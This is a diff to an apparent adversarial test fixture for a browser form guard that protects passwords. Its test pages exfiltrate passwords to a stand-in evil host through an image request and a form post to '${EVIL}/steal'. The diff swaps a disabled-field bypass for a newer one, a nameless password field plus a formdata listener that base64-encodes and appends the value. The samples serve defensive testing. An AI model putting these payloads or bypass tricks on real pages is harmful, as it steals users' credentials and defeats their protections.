@@ -36,14 +36,14 @@ const EXFIL = `
     if (how === 'image') { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('failed'); i.src = url + '?v=' + encodeURIComponent(pw); }
   });`;
 
-// A form guard bypass (issue 11): the password field is disabled when the user presses the button, so the
-// guard's look at the form finds nothing to protect, and enabled again in the page's own submit listener.
+// A trick that still gets past the form guard (issue 11; the guard now catches the field disabled at
+// pointerdown, test/e2e/adversarial.test.ts): the password field has no name, so the guard's look at the form
+// finds nothing to protect, and the page's own formdata listener, stopping every other, adds it wrapped.
 const DISABLED_TRICK = html(
   'trick',
   `<form id="f" method="post" action="${EVIL}/steal">
-     <input id="pw" name="password" type="password"><button id="go">ログイン</button></form>`,
-  `go.addEventListener('pointerdown', () => { pw.disabled = true; });
-   f.addEventListener('submit', () => { pw.disabled = false; });`,
+     <input id="pw" type="password"><button id="go">ログイン</button></form>`,
+  `f.addEventListener('formdata', (e) => { e.formData.append('d', btoa(pw.value)); e.stopImmediatePropagation(); });`,
 );
 const LOGIN = html('login', '<label>パスワード <input id="pw" name="pw" type="password"></label>', EXFIL);
 const FORM = html(
